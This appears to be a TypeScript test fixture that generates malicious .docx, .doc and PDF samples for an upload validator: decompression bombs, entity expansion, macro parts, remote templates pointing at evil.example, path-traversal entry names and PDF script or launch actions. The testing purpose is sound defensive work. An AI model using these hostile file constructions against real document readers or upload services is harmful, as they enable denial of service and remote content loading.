/** Malicious Word documents and PDFs, each with words that the error message must contain. */
import { randomBytes } from 'node:crypto';
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { buildArchive, type Packed } from './archives.ts';
import { buildDoc, buildDocx, buildPdfOf, contentTypes, relations, wordParts } from './documents.ts';
import type { Sent } from './uploads.ts';

type Hostile = [what: string, file: Sent, words: RegExp];

const MEGABYTE = 1024 * 1024;
const docx = (bytes: Buffer): Sent => ({ name: 'schedule.docx', bytes });
const doc = (bytes: Buffer): Sent => ({ name: 'schedule.doc', bytes });
const pdf = (bytes: Buffer): Sent => ({ name: 'plan.pdf', bytes });
const RELS = 'word/_rels/document.xml.rels';
const TYPES = '[Content_Types].xml';

/** Compressed zeros, which unpack to a thousand times their size. */
function zeros(megabytes: number): Buffer {
  return deflateRawSync(Buffer.alloc(megabytes * MEGABYTE), { level: 9 });
}

export function hostileDocuments(): Hostile[] {
  return [...bombs(), ...programs(), ...names(), ...structures(), ...oldDocuments(), ...pdfs()];
}

function bombs(): Hostile[] {
  const large = /unpacks to far more/;
  const gigabytes = zeros(200);
  const tight = zeros(50);
  const shared = zeros(1);
  const text = (packed: Buffer, declared: number): Packed => ({
    name: 'word/document.xml',
    content: '',
    packed,
    declared,
  });
  return [
    ['2 GB that are declared', docx(buildDocx(text(gigabytes, 2 ** 31))), large],
    ['200 MB that are declared', docx(buildDocx(text(gigabytes, 200 * MEGABYTE))), large],
    ['200 MB declared as 10 kB', docx(buildDocx(text(gigabytes, 10_000))), large],
    ['200 MB declared as 0', docx(buildDocx(text(gigabytes, 0))), large],
    ['50 MB of zeros', docx(buildDocx(text(tight, 50 * MEGABYTE))), large],
    [
      '150 MB in pieces of a megabyte',
      docx(
        buildDocx(
          ...Array.from({ length: 150 }, (_, index) => ({
            name: `word/media/${index}.bmp`,
            content: '',
            packed: shared,
            declared: MEGABYTE,
          })),
        ),
      ),
      large,
    ],
    [
      '200 MB in a list of relations',
      docx(buildDocx({ name: RELS, content: '', packed: gigabytes, declared: 20_000 })),
      large,
    ],
    [
      '3,000 files',
      docx(
        buildDocx(
          ...Array.from({ length: 3000 }, (_, index) => ({ name: `word/${index}.xml`, content: '' })),
        ),
      ),
      large,
    ],
    [
      'files that overlap',
      docx(
        buildDocx(
          { name: 'word/media/0.bmp', content: Buffer.alloc(MEGABYTE) },
          ...Array.from({ length: 50 }, (_, index) => ({
            name: `word/media/${index + 1}.bmp`,
            content: Buffer.alloc(MEGABYTE),
            sharedWith: 'word/media/0.bmp',
          })),
        ),
      ),
      /incomplete|not made by Word/,
    ],
    [
      'entities that grow',
      docx(
        buildDocx({
          name: 'word/document.xml',
          content: `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>`,
        }),
      ),
      /not made by Word/,
    ],
  ];
}

function programs(): Hostile[] {
  const macros = /contains macros\. Save it as a plain \.docx without macros, or as a PDF/;
  const inside = /another file inside/;
  const remote = /loads content from the internet/;
  const container = Buffer.concat([buildDoc(), randomBytes(100)]);
  const windows = Buffer.alloc(300);
  windows.write('MZ');
  windows.writeUInt32LE(128, 60);
  windows.write('PE\0\0', 128);
  const starts: Record<string, Buffer> = {
    'a ZIP archive': buildArchive([{ name: 'a.txt', content: 'a' }]),
    'an empty ZIP archive': buildArchive([]),
    RAR: Buffer.from('Rar!\u001a\u0007\u0000', 'latin1'),
    '7z': Buffer.from("7z\u00bc\u00af'\u001c", 'latin1'),
    gzip: gzipSync('a'),
    'a program of Windows': windows,
    'a program of Linux': Buffer.from('\u007fELF\u0002\u0001', 'latin1'),
    'an OLE container': container,
    'a shortcut': Buffer.from('4c0000000114020000000000', 'hex'),
    RTF: Buffer.from('{\\rtf1 \\object}'),
    tar: Buffer.concat([Buffer.alloc(257), Buffer.from('ustar\0'), Buffer.alloc(100)]),
  };
  const type = (value: string) =>
    docx(
      buildDocx({ name: TYPES, content: contentTypes(`<Default Extension="bin" ContentType="${value}"/>`) }),
    );
  const related = (...lines: Parameters<typeof relations>) =>
    docx(buildDocx({ name: RELS, content: relations(...lines) }));
  return [
    ...[
      'word/vbaProject.bin',
      'word/VBAPROJECT.BIN',
      'vbaproject.bin',
      'a/b/vba%50roject.bin',
      'word/vbaData.xml',
    ].map((name): Hostile => [`${name}`, docx(buildDocx({ name, content: container })), macros]),
    ['macros by content type', type('application/vnd.ms-office.vbaProject'), macros],
    ['macros by a disguised content type', type('application/vnd.ms-office.vba&#80;roject'), macros],
    [
      'a .docm under another name',
      docx(
        buildDocx({
          name: TYPES,
          content: contentTypes('', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
        }),
      ),
      macros,
    ],
    [
      'macros by relation',
      docx(
        buildDocx({
          name: RELS,
          content:
            '<Relationships><Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.bin" Id="a"/></Relationships>',
        }),
      ),
      macros,
    ],
    ['ActiveX', docx(buildDocx({ name: 'word/activeX/activeX1.xml', content: '<ax:ocx/>' })), /ActiveX/],
    [
      'an embedded spreadsheet',
      docx(
        buildDocx({ name: 'word/embeddings/Microsoft_Excel_Sheet.xlsx', content: starts['a ZIP archive']! }),
      ),
      inside,
    ],
    [
      'an OLE object',
      docx(buildDocx({ name: 'word/embeddings/oleObject1.bin', content: container })),
      inside,
    ],
    ...Object.entries(starts).map(
      ([what, content]): Hostile => [
        `${what} as a picture`,
        docx(buildDocx({ name: 'word/media/image1.png', content })),
        inside,
      ],
    ),
    ['a template from the web', related(['attachedTemplate', 'https://evil.example/a.dotm', true]), remote],
    ['an object from the web', related(['oleObject', 'mhtml:http://evil.example/a.html!x', true]), remote],
    ['a frame from the web', related(['frame', '&#104;ttp://evil.example/', true]), remote],
    [
      'relations in another encoding',
      docx(
        buildDocx({
          name: RELS,
          content: Buffer.from(
            `\ufeff${relations(['attachedTemplate', 'https://evil.example/', true])}`,
            'utf16le',
          ),
        }),
      ),
      /not made by Word/,
    ],
  ];
}

function names(): Hostile[] {
  const strange = /parts with invalid names/;
  return [
    ...[
      '../../etc/cron.d/evil',
      'word/../../evil.xml',
      '..',
      'word/./document2.xml',
      '/etc/passwd',
      'C:/windows/evil.xml',
      '..\\..\\evil.xml',
      'word\\evil.xml',
      'word/a\u0000.xml',
      'word/a\n.xml',
      'word/\u202elmx.exe',
      'word//a.xml',
      '',
    ].map(
      (name): Hostile => [
        `an entry called ${JSON.stringify(name)}`,
        docx(buildDocx({ name, content: 'x' })),
        strange,
      ],
    ),
    ...['word/document.xml', 'WORD/Document.xml'].map(
      (name): Hostile => [
        `${name} twice`,
        docx(buildArchive([...wordParts(), { name, content: 'other text' }])),
        strange,
      ],
    ),
  ];
}

function structures(): Hostile[] {
  const damaged = /incomplete/;
  const extra = (id: number, length: number) => {
    const bytes = Buffer.alloc(4 + length);
    bytes.writeUInt16LE(id, 0);
    bytes.writeUInt16LE(length, 2);
    return bytes;
  };
  const parts = wordParts();
  const without = (name: string) => docx(buildArchive(parts.filter((part) => part.name !== name)));
  const main = parts.find(({ name }) => name === 'word/document.xml')!;
  const changed = (changes: Partial<Packed>) => docx(buildDocx({ ...main, ...changes }));
  const whole = buildDocx();
  const locator = Buffer.concat([Buffer.from('PK\u0006\u0007', 'latin1'), Buffer.alloc(16)]);
  return [
    ['no list of content types', without(TYPES), damaged],
    ['no text', without('word/document.xml'), damaged],
    ['an archive of something else', docx(buildArchive([{ name: 'a.txt', content: 'a' }])), damaged],
    [
      'an empty archive behind a start',
      docx(Buffer.concat([whole.subarray(0, 30), buildArchive([])])),
      damaged,
    ],
    [
      'a spreadsheet under another name',
      docx(
        buildDocx({
          name: TYPES,
          content: contentTypes(
            '',
            'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
          ),
        }),
      ),
      damaged,
    ],
    ['an encrypted entry', changed({ flags: 1 }), /protected by a password/],
    ['a strongly encrypted entry', changed({ flags: 0x41 }), /protected by a password|incomplete/],
    ['an entry of AES', changed({ method: 99 }), /protected by a password/],
    ['another compression', changed({ method: 12 }), damaged],
    ['a sum that is wrong', changed({ sum: 1 }), damaged],
    ['more declared than there is', changed({ declared: 5000 }), damaged],
    [
      'bytes behind the packed ones',
      changed({ packed: Buffer.concat([deflateRawSync('x'), randomBytes(99)]), declared: 1 }),
      damaged,
    ],
    ['a header with another name', changed({ localName: 'word/documenT.xml' }), damaged],
    ['bytes between the files', changed({ gap: Buffer.from('<script>alert(1)</script>') }), damaged],
    [
      'bytes before the archive',
      docx(Buffer.concat([Buffer.from('PK\u0003\u0004 MZ', 'latin1'), whole])),
      damaged,
    ],
    ['bytes behind the archive', docx(Buffer.concat([whole, randomBytes(50)])), damaged],
    ['two archives', docx(Buffer.concat([whole, buildDocx()])), damaged],
    ['a comment', docx(buildArchive(parts, { comment: Buffer.from('<script>') })), damaged],
    ['an end record in the comment', docx(buildArchive(parts, { comment: buildArchive([]) })), damaged],
    [
      'an end record before the end record',
      docx(buildArchive(parts, { beforeEnd: buildArchive([]) })),
      damaged,
    ],
    ['a locator of ZIP64', docx(buildArchive(parts, { beforeEnd: locator })), damaged],
    ['sizes of ZIP64', changed({ extra: extra(1, 24) }), damaged],
    ['another name for Unicode', changed({ extra: extra(0x7075, 20) }), damaged],
    ['fewer files than there are', docx(buildArchive(parts, { count: parts.length - 1 })), damaged],
    ['more files than there are', docx(buildArchive(parts, { count: parts.length + 1 })), damaged],
    ['a .docx with a password', docx(encrypted), /protected by a password/],
  ];
}

/** The file that Word writes for a password-protected .docx. */
const encrypted = buildDoc({ main: 'EncryptedPackage', streams: ['EncryptionInfo'] });

function oldDocuments(): Hostile[] {
  const macros = /contains macros/;
  return [
    ['a .doc with macros', doc(buildDoc({ storages: ['Macros', 'VBA'], streams: ['_VBA_PROJECT'] })), macros],
    ['a .doc with a hidden project', doc(buildDoc({ streams: ['_vba_project'] })), macros],
    [
      'a .doc with a program inside',
      doc(buildDoc({ streams: ['\u0001Ole10Native'] })),
      /another file inside/,
    ],
    ['a .doc with an archive inside', doc(buildDoc({ streams: ['Package'] })), /another file inside/],
    ['a .doc with a password', doc(buildDoc({ flags: 0x100 })), /protected by a password/],
    ['a .docx with a password as .doc', doc(encrypted), /protected by a password/],
    ['a spreadsheet as .doc', doc(buildDoc({ main: 'Workbook' })), /not a Word 97 or newer document/],
    ['an installer as .doc', doc(buildDoc({ main: 'Property' })), /not a Word 97 or newer document/],
    ['a .doc of Word 95', doc(buildDoc({ ident: 0xa5dc })), /not a Word 97 or newer document/],
  ];
}

function pdfs(): Hostile[] {
  const active = /contains a script, a program to be started, or another file/;
  const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
  return [
    ['a PDF with a script', pdf(buildPdfOf([script])), active],
    ['a PDF with a disguised script', pdf(buildPdfOf(['<</S/J#61va#53cript/JS(1)>>'])), active],
    ['a PDF that starts a program', pdf(buildPdfOf(['<</S/Launch/F(calc.exe)>>'])), active],
    ['a PDF with a file inside', pdf(buildPdfOf(['<</Type/EmbeddedFile>>stream\nx\nendstream'])), active],
    ['a PDF with a script in a packed list', pdf(buildPdfOf([], [`10 0 ${script}`])), active],
    [
      'a PDF with a script in the last of many lists',
      pdf(buildPdfOf([], [...Array(300).fill('10 0 <<>>'), script])),
      active,
    ],
    [
      'a PDF with a script across a border',
      pdf(buildPdfOf([`<<>>%${'x'.repeat(256 * 1024 - 60)}\n`, script])),
      active,
    ],
    [
      'a PDF bomb',
      pdf(buildPdfOf([], [deflateSync(Buffer.alloc(200 * MEGABYTE), { level: 9 })])),
      /unpacks to far more/,
    ],
    [
      'a PDF bomb in many lists',
      pdf(buildPdfOf([], Array(20).fill(deflateSync(Buffer.alloc(3 * MEGABYTE))))),
      /unpacks to far more/,
    ],
  ];
}
